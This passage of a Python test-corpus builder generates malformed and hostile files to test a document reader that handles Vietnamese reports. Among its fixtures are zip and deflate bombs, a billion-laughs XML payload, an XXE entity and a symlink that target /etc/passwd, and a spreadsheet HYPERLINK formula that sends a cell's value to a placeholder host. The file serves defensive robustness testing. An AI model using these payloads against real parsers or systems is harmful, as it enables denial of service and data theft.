"""Writes the bad-input corpus: broken, hostile and awkward files, each built here from bytes.

Nothing is downloaded and no generated binary is committed: tests call `write_corpus(tmp_path)`.
By hand: `python tests/badinput/make_corpus.py DIR`. A fuzz crash becomes a new entry in CASES.
"""

from __future__ import annotations

import hashlib
import io
import os
import random
import struct
import sys
import unicodedata
import zipfile
import zlib
from collections.abc import Callable
from functools import cache
from pathlib import Path

import docx

REPORT = (
    "BÁO CÁO\n"
    "Kết quả công tác Mặt trận năm 2024\n"
    "1. Công tác vận động\n"
    'Ủy ban MTTQ xã đã vận động Quỹ "Vì người nghèo" được 361.432.000 đồng, hỗ trợ 25 hộ nghèo '
    "xây nhà Đại đoàn kết; 04/7 thôn đạt chuẩn văn hóa, đạt 85% kế hoạch năm.\n"
    "2. Phương hướng\n"
    "Phấn đấu 99% hộ gia đình tham gia cuộc vận động.\n"
)
NO_FIGURES = (
    "BÁO CÁO\n"
    "Tình hình tư tưởng Nhân dân\n"
    "Nhân dân trên địa bàn phấn khởi, tin tưởng vào sự lãnh đạo của Đảng và chính quyền; "
    "các tầng lớp Nhân dân đồng tình với chủ trương xây dựng nông thôn mới.\n"
    "Đề nghị cấp trên tiếp tục quan tâm hỗ trợ kinh phí cho các hoạt động ở cơ sở.\n"
)
PDF_LINES = ("BAO CAO KET QUA", "Tong so tien van dong: 361.432.000 dong.", "Ho tro 25 ho ngheo.")
VIETNAMESE_NAME = "Báo cáo tổng kết năm 2024 - xã Nam Dong.txt"

# TCVN3 (ABC): the single-byte code each lower-case Vietnamese letter had in .VnTime fonts.
TCVN3 = dict(zip(
    "àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ",
    "µ¸¶·¹¨»¾¼½Æ©ÇÊÈÉË®ÌÐÎÏÑªÒÕÓÔÖ×ÝØÜÞßãáâä«åèæçé¬êíëìîïóñòô\xadõøö÷ùúýûüþ",
    strict=True,
)) | dict(zip("ĂÂÊÔƠƯĐ", "¡¢£¤¥¦§", strict=True))  # the few capitals .VnTime has a code for
TCVN3_REPORT = (  # capitals with a tone need the .VnTimeH font, so this report avoids them
    "Kết quả công tác Mặt trận năm 2024\n"
    'Ban thường trực đã vận động quỹ "Vì người nghèo" được 361.432.000 đồng, hỗ trợ 25 hộ nghèo '
    "xây nhà đại đoàn kết.\n"
)
ZIP_DATE = (2024, 1, 1, 0, 0, 0)  # every zip entry carries this date, so every build is byte-identical
TONE_MARKS = "\u0300\u0301\u0303\u0309\u0323"  # the five tones cp1258 writes as combining marks


# ---- building blocks ---------------------------------------------------------------------------


def docx_bytes(paragraphs: list[str], font: str = "") -> bytes:
    """A real Word package written by python-docx."""
    document = docx.Document()
    for text in paragraphs:
        run = document.add_paragraph().add_run(text)
        if font:
            run.font.name = font
    out = io.BytesIO()
    document.save(out)
    return repack(out.getvalue())


def repack(package: bytes, replace: dict[str, bytes] | None = None, drop: tuple[str, ...] = ()) -> bytes:
    """The same zip with some parts replaced or dropped, every entry dated ZIP_DATE."""
    replace = replace or {}
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as source, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as target:
        for info in source.infolist():
            if info.filename in drop:
                continue
            fixed = zipfile.ZipInfo(info.filename, date_time=ZIP_DATE)
            fixed.compress_type = zipfile.ZIP_DEFLATED
            target.writestr(fixed, replace.get(info.filename, source.read(info.filename)))
    return out.getvalue()


def document_xml(body: str) -> bytes:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body>{body}</w:body></w:document>"
    ).encode()


def paragraph_xml(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip written byte by byte: (name, deflated data, crc, true size, size the headers declare)."""
    out = bytearray()
    central = bytearray()
    for name, packed, crc, _true_size, declared in entries:
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0, 8, 0, 0x21, crc, len(packed), declared,
                           len(encoded), 0) + encoded + packed
        central += struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 8, 0, 0x21, crc, len(packed),
                               declared, len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    out += central + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(entries), len(entries),
                                 len(central), len(out), 0)
    return bytes(out)


@cache
def deflated_zeros(megabytes: int) -> tuple[bytes, int]:
    """Deflate data and CRC for `megabytes` MB of zeros, built from one repeated flushed block."""
    block = bytes(1024 * 1024)
    compressor = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    unit = compressor.compress(block) + compressor.flush(zlib.Z_FULL_FLUSH)
    crc = 0
    for _ in range(megabytes):
        crc = zlib.crc32(block, crc)
    return unit * megabytes + b"\x03\x00", crc  # b"\x03\x00": an empty final block


def zip_bomb(declared_megabytes: int | None) -> bytes:
    """A .docx whose document.xml inflates to 1 GB; the headers declare it (honest) or lie."""
    good = docx_bytes(["Báo cáo"])
    with zipfile.ZipFile(io.BytesIO(good)) as source:
        parts = [(n, source.read(n)) for n in source.namelist() if n != "word/document.xml"]
    entries = []
    for name, data in parts:
        compressor = zlib.compressobj(6, zlib.DEFLATED, -zlib.MAX_WBITS)
        packed = compressor.compress(data) + compressor.flush()
        entries.append((name, packed, zlib.crc32(data), len(data), len(data)))
    packed, crc = deflated_zeros(1024)
    true_size = 1024 * 1024 * 1024
    declared = true_size if declared_megabytes is None else declared_megabytes * 1024 * 1024
    entries.append(("word/document.xml", packed, crc, true_size, min(declared, 0xFFFFFFFF)))
    return raw_zip(entries)


def ole_file(streams: dict[str, bytes]) -> bytes:
    """A minimal Compound File Binary (OLE2) container: header, its FAT sectors (up to the 109 the
    header lists, 7 MB of streams), one directory sector, then the streams.

    Every stream is padded to 4096 bytes or more so it lives in regular sectors (no mini stream).
    """
    sector = 512
    per_fat = sector // 4
    padded = {}
    for name, stream in streams.items():
        data = stream.ljust(max(4096, len(stream)), b"\x00")
        padded[name] = data.ljust(-(-len(data) // sector) * sector, b"\x00")
    body_sectors = sum(len(data) // sector for data in padded.values())
    fat_sectors = 1
    while fat_sectors * per_fat < fat_sectors + 1 + body_sectors:
        fat_sectors += 1
    assert fat_sectors <= 109 and len(streams) + 1 <= 4
    fat = [0xFFFFFFFD] * fat_sectors + [0xFFFFFFFE]  # the FAT's own sectors, then the directory
    entries = [_ole_entry("Root Entry", 5, child=1 if streams else 0xFFFFFFFF, start=0xFFFFFFFE, size=0)]
    body = bytearray()
    names = list(padded)
    for index, name in enumerate(names):
        first = fat_sectors + 1 + len(body) // sector
        count = len(padded[name]) // sector
        fat += [first + k + 1 for k in range(count - 1)] + [0xFFFFFFFE]
        right = index + 2 if index + 1 < len(names) else 0xFFFFFFFF
        entries.append(_ole_entry(name, 2, right=right, start=first, size=len(streams[name])))
        body += padded[name]
    difat = list(range(fat_sectors)) + [0xFFFFFFFF] * (109 - fat_sectors)
    header = struct.pack(
        "<8s16sHHHHH6sIIIIIIIII", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", bytes(16), 0x3E, 3, 0xFFFE, 9, 6,
        bytes(6), 0, fat_sectors, fat_sectors, 0, 0x1000, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0,
    ) + struct.pack("<109I", *difat)
    fat += [0xFFFFFFFF] * (fat_sectors * per_fat - len(fat))
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat)
    directory = b"".join(entries).ljust(sector, b"\x00")
    return header + fat_bytes + directory + bytes(body)


def _ole_entry(name: str, kind: int, *, child: int = 0xFFFFFFFF, right: int = 0xFFFFFFFF,
               start: int, size: int) -> bytes:
    encoded = (name + "\x00").encode("utf-16-le")
    return struct.pack(
        "<64sHBBIII16sIQQIQ", encoded, len(encoded), kind, 1, 0xFFFFFFFF, right, child, bytes(16), 0, 0, 0,
        start, size,
    )


def pdf_file(objects: list[bytes], *, trailer: bytes = b"", xref_ok: bool = True) -> bytes:
    """A PDF from numbered object bodies (object 1 is the catalog), with its xref and trailer."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref_at = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % (offset if xref_ok else offset * 7 + 13)
    out += b"trailer\n<< /Size %d /Root 1 0 R %s>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1, trailer, xref_at if xref_ok else xref_at + 1234,
    )
    return bytes(out)


def pdf_stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s>>\nstream\n" % (len(data), entries) + data + b"\nendstream"


def pdf_page(resources: bytes) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources " + resources
        + b" /Contents 5 0 R >>",
    ]


def text_content(lines: tuple[str, ...]) -> bytes:
    shown = b" ".join(b"(%s) Tj 0 -18 Td" % line.encode("latin-1") for line in lines)
    return b"BT /F1 12 Tf 72 760 Td " + shown + b" ET"


def text_pdf(*, xref_ok: bool = True) -> bytes:
    return pdf_file([
        *pdf_page(b"<< /Font << /F1 4 0 R >> >>"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        pdf_stream(text_content(PDF_LINES)),
    ], xref_ok=xref_ok)


def flate_bomb_pdf() -> bytes:
    """A page whose content stream is 1 GB of zeros deflated to 1 MB (zlib-wrapped, as PDFs do)."""
    packed, _ = deflated_zeros(1024)
    adler, block = 1, bytes(1024 * 1024)
    for _ in range(1024):
        adler = zlib.adler32(block, adler)
    stream = b"\x78\xda" + packed + struct.pack(">I", adler)
    return pdf_file([
        *pdf_page(b"<< /Font << /F1 4 0 R >> >>"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        pdf_stream(stream, b"/Filter /FlateDecode "),
    ])


def image_only_pdf() -> bytes:
    """A scanned page: one grey image, no text at all."""
    pixels = bytes((x * 3 + y * 5) % 256 for y in range(64) for x in range(64))
    image = pdf_stream(pixels, b"/Type /XObject /Subtype /Image /Width 64 /Height 64 "
                               b"/ColorSpace /DeviceGray /BitsPerComponent 8 ")
    return pdf_file([
        *pdf_page(b"<< /XObject << /Im1 4 0 R >> >>"),
        image,
        pdf_stream(b"q 480 0 0 680 57 80 cm /Im1 Do Q"),
    ])


def cid_pdf() -> bytes:
    """Text drawn with an Identity-H font that has no ToUnicode map: readers see only (cid:N)."""
    lines = ("".join(f"{36 + (i * 7 + j) % 60:04X}" for j in range(40)) for i in range(12))
    glyphs = b"".join(b"<%s> Tj 0 -16 Td " % line.encode() for line in lines)
    return pdf_file([
        *pdf_page(b"<< /Font << /F1 4 0 R >> >>"),
        b"<< /Type /Font /Subtype /Type0 /BaseFont /AAAAAA+TimesNewRoman /Encoding /Identity-H "
        b"/DescendantFonts [6 0 R] >>",
        pdf_stream(b"BT /F1 11 Tf 60 780 Td " + glyphs + b"ET"),
        b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /AAAAAA+TimesNewRoman "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> /FontDescriptor 7 0 R "
        b"/DW 500 /CIDToGIDMap /Identity >>",
        b"<< /Type /FontDescriptor /FontName /AAAAAA+TimesNewRoman /Flags 32 /FontBBox [0 -200 1000 900] "
        b"/ItalicAngle 0 /Ascent 900 /Descent -200 /CapHeight 700 /StemV 80 >>",
    ])


PASSWORD_PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def rc4(key: bytes, data: bytes) -> bytes:
    state = list(range(256))
    j = 0
    for i in range(256):
        j = (j + state[i] + key[i % len(key)]) % 256
        state[i], state[j] = state[j], state[i]
    out = bytearray()
    i = j = 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + state[i]) % 256
        state[i], state[j] = state[j], state[i]
        out.append(byte ^ state[(state[i] + state[j]) % 256])
    return bytes(out)


def encrypted_pdf(user_password: bytes = b"matkhau", owner_password: bytes = b"chusohuu") -> bytes:
    """Standard security handler, revision 2 (40-bit RC4), opened only with a user password."""
    file_id = hashlib.md5(b"tonghop-encrypted").digest()
    permissions = -44
    padded_user = (user_password + PASSWORD_PAD)[:32]
    owner = rc4(hashlib.md5((owner_password + PASSWORD_PAD)[:32]).digest()[:5], padded_user)
    key = hashlib.md5(padded_user + owner + struct.pack("<i", permissions) + file_id).digest()[:5]
    user = rc4(key, PASSWORD_PAD)

    def sealed(number: int, data: bytes) -> bytes:
        object_key = hashlib.md5(key + struct.pack("<I", number)[:3] + b"\x00\x00").digest()[:10]
        return rc4(object_key, data)

    return pdf_file([
        *pdf_page(b"<< /Font << /F1 4 0 R >> >>"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        pdf_stream(sealed(5, text_content(PDF_LINES))),
        b"<< /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P %d >>"
        % (owner.hex().encode(), user.hex().encode(), permissions),
    ], trailer=b"/Encrypt 6 0 R /ID [<%s> <%s>] " % (file_id.hex().encode(), file_id.hex().encode()))


def to_cp1258(text: str) -> bytes:
    """Windows-1258 keeps â/ă/ê/ô/ơ/ư/đ whole and writes the tone as a following combining mark."""
    out = []
    for char in unicodedata.normalize("NFC", text):
        parts = unicodedata.normalize("NFD", char)
        tones = "".join(c for c in parts if c in TONE_MARKS)
        base = unicodedata.normalize("NFC", "".join(c for c in parts if c not in TONE_MARKS))
        out.append(base + tones)
    return "".join(out).encode("cp1258")


def to_tcvn3(text: str) -> str:
    """Text as a .VnTime document stores it: each Vietnamese letter replaced by its TCVN3 byte."""
    return "".join(TCVN3.get(c, c) for c in unicodedata.normalize("NFC", text))


@cache
def long_paragraph(megabytes: int) -> str:
    """One paragraph of `megabytes` MB of varied report sentences, no line break anywhere.

    256 KB of random sentences repeated: further apart than deflate's 32 KB window, so the
    .docx compresses like real text rather than like a zip bomb.
    """
    rng = random.Random(7)
    words = ("hỗ", "trợ", "hộ", "nghèo", "xây", "nhà", "đại", "đoàn", "kết", "vận", "động", "quỹ", "người",
             "dân", "xã", "thôn", "tổ", "chức")
    pieces, size = [], 0
    while size < 256 * 1024:
        piece = " ".join(rng.choice(words) for _ in range(12)) + f" {rng.randint(1, 99_999):,} hộ; "
        pieces.append(piece)
        size += len(piece.encode())
    return "".join(pieces) * (megabytes * 4)


def nested_docx(depth: int) -> bytes:
    body = '<w:customXml w:element="muc">' * depth + paragraph_xml("Báo cáo") + "</w:customXml>" * depth
    return repack(docx_bytes(["x"]), {"word/document.xml": document_xml(body)})


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE w:document [\n <!ENTITY lol "lol">\n'
    + "".join(f' <!ENTITY lol{i} "{("&lol" + str(i - 1 or "") + ";") * 10}">\n' for i in range(1, 10))
    + "]>\n"
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    "<w:p><w:r><w:t>&lol9;</w:t></w:r></w:p></w:body></w:document>"
).encode()
EXTERNAL_ENTITY = (
    b'<?xml version="1.0"?>\n<!DOCTYPE w:styles [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
    b'<w:styles xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    b'<w:style w:type="paragraph" w:styleId="Normal"><w:name w:val="&xxe;"/></w:style></w:styles>'
)


def docx_plus(name: str, data: bytes) -> bytes:
    """A real package with one more part."""
    out = io.BytesIO(docx_bytes([REPORT]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data)
    return out.getvalue()


def many_parts_docx(extra: int) -> bytes:
    """A real package plus `extra` tiny customXml parts: over the archive's entry cap."""
    out = io.BytesIO(docx_bytes([REPORT]))
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for number in range(extra):
            archive.writestr(zipfile.ZipInfo(f"customXml/extra{number}.xml", ZIP_DATE), b"<a/>")
    return out.getvalue()


def many_pages_pdf(pages: int) -> bytes:
    """Blank pages beyond the page cap, each a few bytes."""
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(pages))
    return pdf_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [%s] /Count %d >>" % (kids, pages),
        *(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>" for _ in range(pages)),
    ])

# The same, in UTF-16 and in a part whose name does not say XML: found by content, not by name.
EXTERNAL_ENTITY_UTF16 = EXTERNAL_ENTITY.decode().replace("?>", ' encoding="UTF-16"?>', 1).encode("utf-16")


def _legacy_doc() -> bytes:
    fib = struct.pack("<HH", 0xA5EC, 0xC1) + bytes(508)  # Word 97 file information block magic
    return ole_file({"WordDocument": fib, "1Table": bytes(4096)})


def biff_record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def biff_text(text: str, length_bytes: int) -> bytes:
    """An Excel 97 unicode string: its length, the UTF-16 flag, the characters."""
    return struct.pack("<B" if length_bytes == 1 else "<H", len(text)) + b"\x01" + text.encode("utf-16-le")


def xls_workbook(
    sheet: str, rows: list[list[str | int]], *, merges: tuple[tuple[int, int, int, int], ...] = (),
    run_rows: int = 0, run_cols: int = 0,
) -> bytes:
    """An Excel 97 (BIFF8) workbook written record by record: one sheet of `rows` (texts as LABEL,
    numbers as NUMBER), merged ranges (first row, last row, first col, last col), then `run_rows`
    rows of `run_cols` numbers packed as MULRK records (a huge sheet in a few megabytes)."""
    bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x06)
    name = biff_text(sheet, 1)
    font_height, colour, weight = 200, 0x7FFF, 400  # 10 pt, the window's colour, normal
    font = biff_record(0x0031, struct.pack("<HHHHHBBBB", font_height, 0, colour, weight, 0, 0, 0, 0, 0)
                       + biff_text("Arial", 1))
    # 15 style XFs then the cell XF 15 every cell uses: font 0, format 0 (General)
    formats = b"".join(biff_record(0x00E0, struct.pack("<HHHBBBBIIH", 0, 0, 0xFFF5 if i < 15 else 1, 0x20,
                                                       0, 0, 0, 0, 0, 0x20C0)) for i in range(16))
    settings = biff_record(0x0042, struct.pack("<H", 1200)) + font + formats  # CODEPAGE UTF-16
    globals_size = (4 + len(bof)) + len(settings) + (4 + 6 + len(name)) + 4  # BOF, …, BOUNDSHEET, EOF
    head = (biff_record(0x0809, bof) + settings
            + biff_record(0x0085, struct.pack("<IBB", globals_size, 0, 0) + name) + biff_record(0x000A))
    assert len(head) == globals_size
    cells = bytearray()
    for r, row in enumerate(rows):
        for c, value in enumerate(row):
            if isinstance(value, str):
                cells += biff_record(0x0204, struct.pack("<HHH", r, c, 15) + biff_text(value, 2))
            else:
                cells += biff_record(0x0203, struct.pack("<HHHd", r, c, 15, float(value)))
    for r in range(len(rows), len(rows) + run_rows):
        packed = b"".join(struct.pack("<HI", 15, (((r * 7 + c) % 100_000) << 2) | 2) for c in range(run_cols))
        cells += biff_record(0x00BD, struct.pack("<HH", r, 0) + packed + struct.pack("<H", run_cols - 1))
    if merges:
        ranges = b"".join(struct.pack("<HHHH", *merge) for merge in merges)
        cells += biff_record(0x00E5, struct.pack("<H", len(merges)) + ranges)
    width = max([len(row) for row in rows] + [run_cols])
    dimensions = biff_record(0x0200, struct.pack("<IIHHH", 0, len(rows) + run_rows, 0, width, 0))
    sheet_bof = biff_record(0x0809, bof[:2] + struct.pack("<H", 0x0010) + bof[4:])
    sheet_stream = sheet_bof + dimensions + bytes(cells) + biff_record(0x000A)
    stream = (head + sheet_stream).ljust(4096, b"\x00")  # 4 KB or more: a regular stream, not a mini one
    return ole_file({"Workbook": stream})


APPENDIX_ROWS: list[list[str | int]] = [
    ["Kết quả vận động Quỹ Vì người nghèo năm 2024"],
    ["STT", "Xã, thị trấn", "Số tiền vận động (đồng)", "Số hộ được hỗ trợ"],
    [1, "Xã Ea Pô", 361432000, 25],
    [2, "Xã Nam Dong", 128500000, 12],
]


def huge_xls() -> bytes:
    """A sheet of 300,000 numbers (1,200 rows of 250), 1.8 MB: over the workbook cell cap."""
    return xls_workbook("Phụ lục", APPENDIX_ROWS[1:2], run_rows=1200, run_cols=250)


@cache
def appendix_xls() -> bytes:
    """The appendix as Excel 97 saved it: LibreOffice converts appendix_xlsx() when it is installed,
    otherwise the same table is written record by record (xls_workbook)."""
    converted = office_convert(appendix_xlsx(), "phu-luc.xlsx", "xls")
    return converted or xls_workbook("Phụ lục 1", APPENDIX_ROWS, merges=((0, 0, 0, 3),))


def office_convert(data: bytes, name: str, target: str) -> bytes | None:
    """`data` converted by LibreOffice headless to `target` ("doc", "xls"); None without LibreOffice."""
    import shutil
    import subprocess
    import tempfile

    program = shutil.which("soffice")
    if program is None:
        return None
    with tempfile.TemporaryDirectory() as folder:
        source = Path(folder) / name
        source.write_bytes(data)
        subprocess.run([program, f"-env:UserInstallation={Path(folder, 'p').as_uri()}", "--headless",
                        "--convert-to", target, "--outdir", folder, str(source)],
                       capture_output=True, timeout=180, check=False, env={**os.environ, "HOME": folder})
        converted = source.with_suffix("." + target)
        return converted.read_bytes() if converted.is_file() else None


def _password_docx() -> bytes:
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'  # agile encryption header
    package = struct.pack("<Q", 12_000) + random.Random(3).randbytes(12_000)
    return ole_file({"EncryptionInfo": info, "EncryptedPackage": package})


def _not_ooxml() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("anh/hop-mat.jpg", ZIP_DATE), random.Random(5).randbytes(2000))
        archive.writestr(zipfile.ZipInfo("ghichu.txt", ZIP_DATE), "Danh sách ảnh hội nghị")
    return out.getvalue()


def placed_text_pdf(lines: tuple[str, ...], top: int) -> bytes:
    """A one-page text PDF whose lines start `top` points above the bottom of an A4 page."""
    shown = b" ".join(b"(%s) Tj 0 -14 Td" % line.encode("latin-1") for line in lines)
    return pdf_file([
        *pdf_page(b"<< /Font << /F1 4 0 R >> >>"),
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        pdf_stream(b"BT /F1 11 Tf 72 %d Td " % top + shown + b" ET"),
    ])


def text_pages_pdf(pages: int) -> bytes:
    """A text PDF of `pages` pages, each with a heading and twenty report lines (a compiled report)."""
    font = 3 + 2 * pages
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>",
               b"<< /Type /Pages /Kids [%s] /Count %d >>" % (
                   b" ".join(b"%d 0 R" % (3 + 2 * n) for n in range(pages)), pages)]
    for n in range(pages):
        lines = [f"Trang {n + 1}: Bao cao ket qua cong tac Mat tran"] + [
            f"Xa so {n * 20 + k}: van dong {(n * 20 + k) * 1000:,} dong, ho tro {k + 3} ho ngheo."
            for k in range(20)]
        objects.append(b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] "
                       b"/Resources << /Font << /F1 %d 0 R >> >> /Contents %d 0 R >>" % (font, 4 + 2 * n))
        shown = b" ".join(b"(%s) Tj 0 -24 Td" % line.encode("latin-1") for line in lines)
        objects.append(pdf_stream(b"BT /F1 11 Tf 72 740 Td " + shown + b" ET"))
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>")
    return pdf_file(objects)


def self_referencing_pdf() -> bytes:
    """A page tree whose Pages node lists itself among its kids: a parser that follows it loops."""
    return pdf_file([
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        pdf_stream(text_content(PDF_LINES)),
    ])


def numbering_docx(start: str) -> bytes:
    """A Word list whose numbering level says w:start="{start}" (Word itself ignores a bad value)."""
    word = docx.Document()
    for text in REPORT.splitlines()[:3]:
        word.add_paragraph(text, style="List Number")
    out = io.BytesIO()
    word.save(out)
    package = out.getvalue()
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        numbering = source.read("word/numbering.xml").decode()
    import re as _re

    numbering = _re.sub(r'<w:start w:val="\d+"/>', f'<w:start w:val="{start}"/>', numbering)
    return repack(package, {"word/numbering.xml": numbering.encode()})


ALT_CHUNK_HTML = (
    "<html><head><meta charset='utf-8'><title>Phụ lục</title></head><body>"
    "<p>Kết quả vận động Quỹ &quot;Vì người nghèo&quot; năm 2024 được 512.000.000 đồng.</p>"
    "<table><tr><th>Xã</th><th>Số hộ được hỗ trợ (hộ)</th></tr>"
    "<tr><td>Ea Pô</td><td>17</td></tr><tr><td>Nam Dong</td><td>23</td></tr></table>"
    "</body></html>"
)


def altchunk_docx() -> bytes:
    """A .docx whose body imports an HTML part with w:altChunk, as web forms write reports."""
    package = docx_bytes(["BÁO CÁO", "Kết quả công tác Mặt trận năm 2024"])
    with zipfile.ZipFile(io.BytesIO(package)) as source:
        body = source.read("word/document.xml").decode()
        rels = source.read("word/_rels/document.xml.rels").decode()
        types = source.read("[Content_Types].xml").decode()
    body = body.replace("</w:body>", "").replace("<w:sectPr", '<w:altChunk r:id="rIdChunk1"/><w:sectPr', 1)
    body = body.replace("</w:document>", "</w:body></w:document>") if "</w:body>" not in body else body
    rels = rels.replace("</Relationships>", '<Relationship Id="rIdChunk1" Type="http://schemas.openxmlformats.org/'
                        'officeDocument/2006/relationships/aFChunk" Target="phuluc.htm"/></Relationships>')
    types = types.replace("</Types>", '<Default Extension="htm" ContentType="text/html"/></Types>')
    replaced = {"[Content_Types].xml": types.encode(), "word/document.xml": body.encode(),
                "word/_rels/document.xml.rels": rels.encode()}
    return docx_plus_parts(repack(package, replaced), {"word/phuluc.htm": ALT_CHUNK_HTML.encode()})


def docx_plus_parts(package: bytes, parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO(package)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(zipfile.ZipInfo(name, ZIP_DATE), data, compress_type=zipfile.ZIP_DEFLATED)
    return out.getvalue()


def short_paragraphs_docx(count: int) -> bytes:
    """A .docx of `count` short paragraphs, written as XML directly (python-docx would take minutes)."""
    body = "".join(paragraph_xml(f"Mục {i % 97}") for i in range(count))
    return repack(docx_bytes(["x"]), {"word/document.xml": document_xml(body)})


HUGE_NUMBER = "9" * 400
FORMULA_REPORT = (
    "BÁO CÁO\n"
    '=HYPERLINK("http://vi-du.invalid/?q="&A1,"Bấm vào đây") hỗ trợ 25 hộ nghèo.\n'
    "- Vận động Quỹ được 361.432.000 đồng.\n"
    "+ Trao 120 suất quà.\n"
    "@SUM(1+1) hộ đạt 85% kế hoạch.\n"
)


def word97_doc() -> bytes:
    """A real Word 97 .doc of REPORT, written by LibreOffice; without LibreOffice, the minimal
    OLE2 Word file (the reader then refuses it E003 all the same)."""
    return office_convert(docx_bytes(REPORT.splitlines()), "bao-cao.docx", "doc") or _legacy_doc()


def appendix_xlsx() -> bytes:
    """A data appendix as a workbook: a title row merged across, headers, a unit column, numbers."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "Phụ lục 1"
    sheet.append(["Kết quả vận động Quỹ Vì người nghèo năm 2024"])
    sheet.merge_cells("A1:D1")
    sheet.append(["STT", "Xã, thị trấn", "Số tiền vận động (đồng)", "Số hộ được hỗ trợ"])
    sheet.append([1, "Xã Ea Pô", 361432000, 25])
    sheet.append([2, "Xã Nam Dong", 128500000, 12])
    sheet["C5"] = "=SUM(C3:C4)"  # a formula: its cached value is what Excel shows (none here)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def photo_png() -> bytes:
    """A seed report's first page as a 200 dpi photo (PNG) of the printed page."""
    import pypdfium2 as pdfium

    seed = next((Path(__file__).resolve().parents[2] / "samples").glob("004_*.pdf"))
    image = pdfium.PdfDocument(str(seed))[0].render(scale=200 / 72).to_pil().convert("L")
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


# ---- special entries: not files with bytes, but what a folder may also hold ----------------------


def make_fifo(path: Path) -> None:
    os.mkfifo(path)


def make_link_out(path: Path) -> None:
    path.symlink_to("/etc/passwd")


SPECIAL: dict[str, Callable[[Path], None]] = {
    "fifo_named_pipe.txt": make_fifo,  # open() on it blocks until someone writes
    "link_to_etc_passwd.txt": make_link_out,  # a link out of the folder being loaded
}


# ---- the corpus: file name -> how to build it ----------------------------------------------------

CASES: dict[str, Callable[[], bytes]] = {
    "empty.docx": lambda: b"",
    "legacy_word97.docx": _legacy_doc,
    "random_bytes.docx": lambda: random.Random(1).randbytes(50_000),
    "not_ooxml_zip.docx": _not_ooxml,
